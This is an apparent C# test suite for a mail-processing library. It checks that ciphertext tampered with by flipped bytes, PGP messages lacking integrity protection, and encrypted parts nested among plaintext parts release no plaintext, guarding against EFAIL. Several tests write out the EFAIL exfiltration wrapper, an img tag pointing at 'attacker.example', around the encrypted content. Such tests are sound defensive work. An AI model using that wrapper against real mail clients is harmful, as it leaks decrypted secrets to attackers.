using System.Text;
using Org.BouncyCastle.Bcpg.OpenPgp;
using RuleMail.Core.Tests.Support;
using RuleMail.Crypto;

namespace RuleMail.Core.Tests.Crypto;

/// <summary>
/// EFAIL: plaintext that failed an integrity check, or that came from an encrypted part the message merely
/// contains, must never reach the report's message (where rules, webhooks and people would read it). Each
/// plaintext carries a unique marker that is searched for in every byte and decoded part of the report.
/// </summary>
public sealed class EfailTests(SmimeMail mail, PgpMail gpg) : IClassFixture<SmimeMail>, IClassFixture<PgpMail>
{
    private const string Marker = "EFAIL-SECRET-MARKER-5b2e9d";
    private const string Pgp = SecurityResult.PgpType;

    private static readonly string Secret =
        "The secret is " + Marker + ".\n" + string.Concat(Enumerable.Repeat("Filler line that the tampering may garble.\n", 6));

    [Theory]
    [InlineData("pgp-mime")]
    [InlineData("inline")]
    public void A_pgp_message_without_integrity_protection_is_not_decrypted(string shape)
    {
        using var store = MailboxStore.With(gpg.Secret(PgpMail.Support));
        var armored = gpg.Encrypt(PgpMail.Support, Entity(shape), "--rfc2440");
        Assert.False(EncryptedData(armored).IsIntegrityProtected(), "gpg --rfc2440 was expected to write a message without MDC");
        var message = Wrap(shape, armored);

        var report = store.Inspect(message, MailboxStore.Account);

        SecurityAssert.DecryptionFailed(report.Security, Pgp, SecurityComments.NoIntegrityProtection);
        IncomingMail.AssertNowhere(report.Message, Marker);
    }

    [Theory]
    [InlineData("pgp-mime", "in the literal data")]
    [InlineData("pgp-mime", "in the MDC")]
    [InlineData("inline", "in the literal data")]
    [InlineData("inline", "in the MDC")]
    public void A_pgp_message_whose_ciphertext_was_changed_fails_its_integrity_check_and_releases_no_plaintext(string shape, string where)
    {
        using var store = MailboxStore.With(gpg.Secret(PgpMail.Support));
        var armored = gpg.Encrypt(PgpMail.Support, Entity(shape), "--compress-algo", "none");
        Assert.True(EncryptedData(armored).IsIntegrityProtected());
        var binary = Support.Pgp.Dearmor(armored);
        // The encrypted MDC packet is the last 22 bytes; the literal data ends just before it.
        binary[where == "in the MDC" ? binary.Length - 3 : binary.Length - 22 - 30] ^= 0x20;
        var message = Wrap(shape, Support.Pgp.Armor(binary));

        var report = store.Inspect(message, MailboxStore.Account);

        SecurityAssert.DecryptionFailed(report.Security, Pgp, SecurityComments.IntegrityCheckFailed);
        IncomingMail.AssertNowhere(report.Message, Marker);
    }

    [Fact]
    public void An_aes_gcm_smime_message_whose_ciphertext_was_changed_fails_its_integrity_check_and_releases_no_plaintext()
    {
        using var store = MailboxStore.With([mail["root.crt"], mail["inter.crt"], .. mail.WithPrivateKey(SmimeMail.Support)]);
        var der = mail.OpenSsl(IncomingMail.TextEntity(Secret), "cms", "-encrypt", "-aes-256-gcm", "-outform", "DER", "-recip", mail.Certificate(SmimeMail.Support));
        // The 16-byte authentication tag is the last OCTET STRING (18 bytes); the ciphertext ends just before it.
        der[der.Length - 18 - 20] ^= 0x20;
        var message = IncomingMail.WithHeaders(Pkcs7Mime("authEnveloped-data", der), "sam@example.com", MailboxStore.Account);

        var report = store.Inspect(message, MailboxStore.Account);

        SecurityAssert.DecryptionFailed(report.Security, SecurityResult.SmimeType, SecurityComments.IntegrityCheckFailed);
        IncomingMail.AssertNowhere(report.Message, Marker);
    }

    [Fact]
    public void A_pgp_mime_encrypted_part_nested_among_plaintext_parts_is_not_decrypted()
    {
        using var store = MailboxStore.With(gpg.Secret(PgpMail.Support));
        var encrypted = IncomingMail.PgpEncrypted(gpg.Encrypt(PgpMail.Support, IncomingMail.TextEntity(Secret)));
        var message = IncomingMail.WithHeaders(
            IncomingMail.MixedAround(encrypted, "<img src=\"https://attacker.example/?", "\">"), "mallory@example.net", MailboxStore.Account);

        var report = store.Inspect(message, MailboxStore.Account);

        Assert.Equal(SecurityResult.None, report.Security);
        IncomingMail.AssertNowhere(report.Message, Marker);
    }

    [Fact]
    public void An_inline_pgp_block_in_a_part_nested_among_plaintext_parts_is_not_decrypted()
    {
        using var store = MailboxStore.With(gpg.Secret(PgpMail.Support));
        var inline = IncomingMail.InlineText(gpg.Encrypt(PgpMail.Support, Encoding.UTF8.GetBytes(Secret)));
        var message = IncomingMail.WithHeaders(
            IncomingMail.MixedAround(inline, "<img src=\"https://attacker.example/?", "\">"), "mallory@example.net", MailboxStore.Account);

        var report = store.Inspect(message, MailboxStore.Account);

        Assert.Equal(SecurityResult.None, report.Security);
        IncomingMail.AssertNowhere(report.Message, Marker);
    }

    [Theory]
    [InlineData("smime -encrypt")]
    [InlineData("cms -encrypt -aes-256-gcm")]
    public void An_smime_encrypted_part_nested_among_plaintext_parts_is_not_decrypted(string how)
    {
        using var store = MailboxStore.With([mail["root.crt"], mail["inter.crt"], .. mail.WithPrivateKey(SmimeMail.Support)]);
        var entity = IncomingMail.TextEntity(Secret);
        var encrypted = how.StartsWith("smime", StringComparison.Ordinal)
            ? mail.SmimeEncrypt(entity, SmimeMail.Support)
            : mail.CmsEncrypt(entity, SmimeMail.Support, "-aes-256-gcm");
        var message = IncomingMail.WithHeaders(
            IncomingMail.MixedAround(encrypted, "<img src=\"https://attacker.example/?", "\">"), "mallory@example.com", MailboxStore.Account);

        var report = store.Inspect(message, MailboxStore.Account);

        Assert.Equal(SecurityResult.None, report.Security);
        IncomingMail.AssertNowhere(report.Message, Marker);
    }

    [Theory]
    [InlineData("8bit")]
    [InlineData("base64")]
    [InlineData("quoted-printable")]
    public void The_marker_search_finds_the_plaintext_of_a_message_that_was_decrypted_in_any_transfer_encoding(string transferEncoding)
    {
        using var store = MailboxStore.With(gpg.Secret(PgpMail.Support));
        var armored = gpg.Encrypt(PgpMail.Support, IncomingMail.TextEntity(Secret, transferEncoding));
        var report = store.Inspect(IncomingMail.WithHeaders(IncomingMail.PgpEncrypted(armored), "paul@example.net", MailboxStore.Account));
        SecurityAssert.Decrypted(report.Security, Pgp);

        var search = Record.Exception(() => IncomingMail.AssertNowhere(report.Message, Marker));

        Assert.NotNull(search);
    }

    private static byte[] Entity(string shape) =>
        shape == "inline" ? Encoding.UTF8.GetBytes(Secret) : IncomingMail.TextEntity(Secret);

    private static byte[] Wrap(string shape, byte[] armored) =>
        IncomingMail.WithHeaders(
            shape == "inline" ? IncomingMail.InlineText(armored) : IncomingMail.PgpEncrypted(armored), "paul@example.net", MailboxStore.Account);

    private static PgpPublicKeyEncryptedData EncryptedData(byte[] armored)
    {
        var factory = new PgpObjectFactory(Support.Pgp.Dearmor(armored));
        var list = (PgpEncryptedDataList)factory.NextPgpObject();
        return (PgpPublicKeyEncryptedData)list[0];
    }

    private static byte[] Pkcs7Mime(string smimeType, byte[] der) =>
        Encoding.ASCII.GetBytes(
            $"MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type={smimeType}; name=smime.p7m\r\n" +
            "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=smime.p7m\r\n\r\n" +
            Convert.ToBase64String(der, Base64FormattingOptions.InsertLineBreaks) + "\r\n");
}
